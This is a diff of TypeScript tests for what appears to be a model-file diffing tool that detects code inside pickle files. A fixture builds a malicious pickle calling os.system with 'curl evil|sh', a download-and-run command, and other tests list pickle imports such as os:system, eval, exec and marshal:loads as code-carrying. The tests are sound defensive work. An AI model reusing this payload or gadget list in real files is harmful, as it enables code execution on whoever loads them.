@@ -3,8 +3,11 @@ import fc from "fast-check";
 import { comparePaths } from "../archive/index.js";
 import type { Findings, Tensor } from "../inspect/findings.js";
 import type { ManifestFile } from "../types.js";
+import { found } from "../inspect/inspect.test.helper.js";
+import { carriesCode } from "./code.js";
 import { file, side, tensor, weights } from "./diff.test.helper.js";
 import { diffModels, type Diff } from "./index.js";
+import { diffMarkdown } from "./markdown.js";
 
 const diff = (before: readonly ManifestFile[], after: readonly ManifestFile[]): Promise<Diff> =>
   diffModels(side("a", before), side("b", after));
@@ -201,6 +204,43 @@ describe("what else a model says", () => {
       ["d.pkl", []],
       ["c.pkl", ["m:C"]],
     ]);
+  });
+
+  test("a pickle whose content is the code, with the same imports", async () => {
+    const code = async (command: string) => {
+      const content = `cos\nsystem\n(S'${command}'\ntR.`;
+      return file("m.pkl", content, { findings: await found("m.pkl", content) });
+    };
+    const result = await diff([await code("echo 1")], [await code("curl evil|sh")]);
+    expect(result.code).toMatchObject([{ path: "m.pkl", newImports: [] }]);
+    expect(diffMarkdown(result)).toContain("its content changed and may be other code");
+    expect((await diff([await code("echo 1")], [await code("echo 1")])).code).toEqual([]);
+  });
+
+  test.each([
+    [false, "sklearn.pipeline:Pipeline", true],
+    [true, "cloudpickle.cloudpickle:_make_function", true],
+    [true, "builtins:getattr", true],
+    [true, "sklearn.pipeline:Pipeline", false],
+  ])("told of: %s, where a pickle imports %s before and after, followed to its end: %s", async (told, name, whole) => {
+    const code = { kind: "pickle", imports: [name], unknown: [name], whole };
+    const { code: changes } = await diff([saying("a.pkl", "1", { code })], [saying("a.pkl", "2", { code })]);
+    expect(changes).toHaveLength(told ? 1 : 0);
+  });
+
+  test.each(
+    [
+      "os:system posix:system nt:system subprocess:Popen builtins:eval __builtin__:eval builtins:exec builtins:compile marshal:loads types:CodeType",
+      "_pickle:loads dill._dill:_create_function cloudpickle:loads joblib:load torch:load torch.storage:_load_from_bytes numpy:load runpy:_run_code",
+      "numpy.f2py.crackfortran:getlincoef pip._internal:main functools:partial operator:methodcaller __main__:f importlib:import_module",
+    ].flatMap((line) => line.split(" ")),
+  )("%s is told by the pickle what to run", (name) => {
+    expect(carriesCode(name)).toBe(true);
+  });
+
+  test("classes and functions of the libraries that models are made with are not", () => {
+    const names = "sklearn.tree._tree:Tree numpy.random._pickle:__randomstate_ctor xgboost.core:Booster lightgbm.basic:Booster osmnx:Graph";
+    expect(names.split(" ").filter(carriesCode)).toEqual([]);
   });
 
   test("a pickle that can no longer be followed", async () => {
